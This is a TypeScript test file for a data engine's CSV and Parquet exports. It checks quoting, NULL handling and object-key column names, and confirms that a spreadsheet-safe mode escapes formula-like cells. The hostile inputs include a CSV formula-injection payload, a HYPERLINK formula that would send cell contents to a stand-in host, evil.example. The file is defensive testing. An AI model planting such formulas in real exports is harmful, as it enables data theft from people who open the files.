import { beforeAll, describe, expect, it } from 'vitest';
import { openNodeEngine, stageFile } from '../../../../tests/helpers/node-engine';
import type { EngineCore } from './core';
import { recordCase } from '../../../../tests/helpers/reliability';

let core: EngineCore;
beforeAll(async () => {
	core = await openNodeEngine();
	await core.exec(`CREATE TABLE people AS SELECT * FROM (VALUES
		(1, 'Smith, "Bob"', DATE '2024-02-29', TIMESTAMP '2024-01-02 03:04:05', TRUE, 12.5),
		(2, 'Zoë', NULL, NULL, FALSE, NULL),
		(3, 'multi
line', DATE '1999-12-31', TIMESTAMP '2000-01-01 00:00:00', NULL, -1)) v(id, name, born, seen, vip, score)`);
});

async function collect(
	run: (sink: (c: Uint8Array) => void) => Promise<unknown>
): Promise<Uint8Array> {
	const parts: Uint8Array[] = [];
	await run((c) => void parts.push(c));
	const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
	let at = 0;
	for (const p of parts) {
		out.set(p, at);
		at += p.length;
	}
	return out;
}

describe('exports', () => {
	it('CSV is RFC 4180 with a BOM, CRLF, quoted fields and empty NULLs', async () => {
		const bytes = await collect((sink) => core.exportCsv('SELECT * FROM people ORDER BY id', sink));
		const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
		expect(text).toBe(
			'\uFEFFid,name,born,seen,vip,score\r\n' +
				'1,"Smith, ""Bob""",2024-02-29,2024-01-02 03:04:05,true,12.5\r\n' +
				'2,Zoë,,,false,\r\n' +
				'3,"multi\nline",1999-12-31,2000-01-01 00:00:00,,-1\r\n'
		);
	});

	it('spreadsheet-safe CSV neutralises formula text in cells and names, never numbers', async () => {
		const hostile = [
			'=HYPERLINK("http://evil.example/?x="&A1,"click me")',
			'+1+1',
			'-2+3',
			'@SUM(A1:A2)',
			'\tTAB',
			'\rCR',
			'plain',
			'a=b'
		];
		const values = hostile.map((h, i) => `(${i}, '${h.replaceAll("'", "''")}', ${-5 - i})`);
		const sql = `SELECT id, t AS "=cmd", n FROM (VALUES ${values.join(', ')}) v(id, t, n) ORDER BY id`;
		const decode = (b: Uint8Array) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(b);
		const safe = decode(
			await collect((sink) => core.exportCsv(sql, sink, undefined, { spreadsheetSafe: true }))
		);
		const lines = safe.replace('\uFEFF', '').split('\r\n');
		const formulaLike = hostile.filter((h) => /^[=+\-@\t\r]/.test(h));
		const neutralised = formulaLike.filter((h) =>
			lines.some((l) => l.includes(`,'${h.split('"')[0]!}`) || l.includes(`,"'${h.split('"')[0]!}`))
		);
		recordCase('9-exports-spreadsheet', {
			case: '9. Hostile data',
			check:
				'Exports opened by a spreadsheet: formula-like cells (=, +, -, @, tab, CR) and a column name through the member CSV writer',
			runs: formulaLike.length + 1 + 2,
			passed:
				neutralised.length +
				(lines[0] === "id,'=cmd,n" ? 1 : 0) +
				(safe.includes(',plain,') && safe.includes(',a=b,') ? 2 : 0),
			failed:
				formulaLike.length +
				3 -
				neutralised.length -
				(lines[0] === "id,'=cmd,n" ? 1 : 0) -
				(safe.includes(',plain,') && safe.includes(',a=b,') ? 2 : 0),
			notes: `${neutralised.length} of ${formulaLike.length} formula-like cells and the column name neutralised; 2 ordinary texts and ${hostile.length} negative numbers untouched; raw mode writes values as imported.`
		});
		expect(lines[0]).toBe("id,'=cmd,n");
		const cells = lines.slice(1, -1).map((l) => l.slice(l.indexOf(',') + 1, l.lastIndexOf(',')));
		expect(cells).toEqual([
			'"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click me"")"',
			"'+1+1",
			"'-2+3",
			"'@SUM(A1:A2)",
			"'\tTAB",
			'"\'\rCR"',
			'plain',
			'a=b'
		]);
		// numbers stay numbers: -5 … -12, untouched
		expect(lines.slice(1, -1).map((l) => l.slice(l.lastIndexOf(',') + 1))).toEqual(
			hostile.map((_h, i) => String(-5 - i))
		);
		// without the option (backups, other programs) every value is written as it is
		const raw = decode(await collect((sink) => core.exportCsv(sql, sink)));
		expect(raw).toContain('\r\n1,+1+1,-6\r\n');
		expect(raw.split('\r\n')[0]).toBe('\uFEFFid,=cmd,n');
	});

	it('columns named like object keys keep their values', async () => {
		const sql = `SELECT 1 AS "__proto__", 'c' AS "constructor", 't' AS "toString", 2 AS "hasOwnProperty", 'v' AS "valueOf"`;
		const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(
			await collect((sink) => core.exportCsv(sql, sink))
		);
		expect(text).toBe(
			'\uFEFF__proto__,constructor,toString,hasOwnProperty,valueOf\r\n1,c,t,2,v\r\n'
		);
		const rows = (await core.query(sql)).rows;
		expect(Object.entries(rows[0]!)).toEqual([
			['__proto__', 1],
			['constructor', 'c'],
			['toString', 't'],
			['hasOwnProperty', 2],
			['valueOf', 'v']
		]);
		// and after a trip through structured cloning (the worker → page boundary)
		const cloned = structuredClone(rows[0]!);
		expect(cloned['__proto__']).toBe(1);
		expect(cloned['constructor']).toBe('c');
	});

	it('an empty result still has its header', async () => {
		const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(
			await collect((sink) => core.exportCsv('SELECT * FROM people WHERE false', sink))
		);
		expect(text).toBe('\uFEFFid,name,born,seen,vip,score\r\n');
	});

	it('Parquet keeps rows and types and imports back', async () => {
		const bytes = await collect((sink) =>
			core.exportParquet('SELECT * FROM people ORDER BY id', sink)
		);
		expect(new TextDecoder().decode(bytes.subarray(0, 4))).toBe('PAR1');
		const staged = await stageFile(
			core,
			new File([bytes as Uint8Array<ArrayBuffer>], 'people.parquet')
		);
		expect(staged.rowCount).toBe(3);
		expect(Object.fromEntries(staged.columns.map((c) => [c.source, c.detected]))).toEqual({
			id: 'number',
			name: 'string',
			born: 'date',
			seen: 'timestamp',
			vip: 'boolean',
			score: 'number'
		});
	});
});
